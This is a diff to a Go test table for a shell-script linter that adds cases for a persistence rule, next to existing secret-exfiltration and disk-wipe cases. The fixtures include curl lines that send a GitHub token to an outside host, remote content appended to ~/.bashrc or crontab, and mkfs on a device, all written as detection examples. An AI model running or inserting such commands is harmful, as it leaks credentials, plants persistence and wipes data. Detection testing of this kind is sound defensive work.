@@ -127,6 +127,18 @@ var codeCases = []lintCase{
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user https://gh-stats.example/u\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -d \"tok=$t\" https://api.github.com/gists\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)$(op read op://vault/x)\ncurl -fsS -H \"X: $t\" https://api.github.com/user\n", "error", 2},
+	// A write that runs later, made only after the user answered yes at the
+	// terminal, is theirs: a note; a yes does not vouch for a download.
+	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok == [yY]* ]] || { echo no; exit 1; }\ncat \"$CFG\" >> ~/.bashrc\n", "note", 3},
+	{"s.sh", "persistence", "cat \"$CFG\" >> ~/.bashrc\n", "warning", 1},
+	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\nif [[ $ok != [yY]* ]]; then\n  exit 1\nfi\ncat \"$CFG\" >> ~/.bashrc\n", "note", 5},
+	{"s.sh", "persistence", "confirm() { read -r -p \"$1 [y/N] \" a; [[ $a == [yY]* ]]; }\nif confirm \"Install?\"; then\n  cat \"$CFG\" >> ~/.bashrc\nfi\n", "note", 3},
+	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\ncase $ok in\n  [yY]*) cat \"$CFG\" >> ~/.bashrc ;;\nesac\n", "note", 3},
+	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\nif [[ $ok == [yY]* ]]; then echo ok; fi\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
+	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok == [yY]* ]] || exit 1\necho \"$(curl -s https://x.example/a)\" >> ~/.bashrc\n", "warning", 3},
+	// The user's crontab with lines left out adds nothing that runs.
+	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
+	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
